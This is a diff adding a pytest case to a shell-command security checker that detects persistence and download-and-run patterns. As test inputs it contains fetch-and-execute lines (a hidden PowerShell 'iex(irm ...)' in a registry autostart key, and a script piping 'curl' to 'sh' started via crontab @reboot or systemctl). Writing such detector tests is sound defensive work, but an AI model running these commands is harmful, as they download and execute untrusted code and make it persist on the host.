@@ -304,3 +304,14 @@ def test_start_with_windows_is_seen() -> None:
     assert checks_of(in_shell(f"reg add {key} /v x /d 'C:\\x.exe' /f\n")) == {checks.AUTOSTART}
     fetched = "powershell -w hidden iex(irm https://in.stats.example/a)"
     assert checks.SCHEDULES_FETCH in checks_of(in_shell(f"reg.exe add {key} /v x /d '{fetched}' /f\n"))
+
+
+@pytest.mark.parametrize(
+    "start",
+    ["/opt/tidy/run.sh &\n", 'echo "@reboot /opt/tidy/run.sh" | crontab -\n', "systemctl enable --now tidy\n", ""],
+)
+def test_script_that_a_script_writes_is_run__whatever_starts_it(start: str) -> None:
+    lay_down = "cat > /opt/tidy/run.sh <<'R'\n#!/usr/bin/env bash\nu={}\n{}\nR\nchmod +x /opt/tidy/run.sh\n"
+    fetching = lay_down.format("https://files.example/a", 'curl -s "$u" | sh')
+    assert checks.RUNS_DOWNLOAD in checks_of(in_shell(fetching + start))
+    assert checks.RUNS_DOWNLOAD not in checks_of(in_shell(lay_down.format("1", 'echo "$u"') + start))
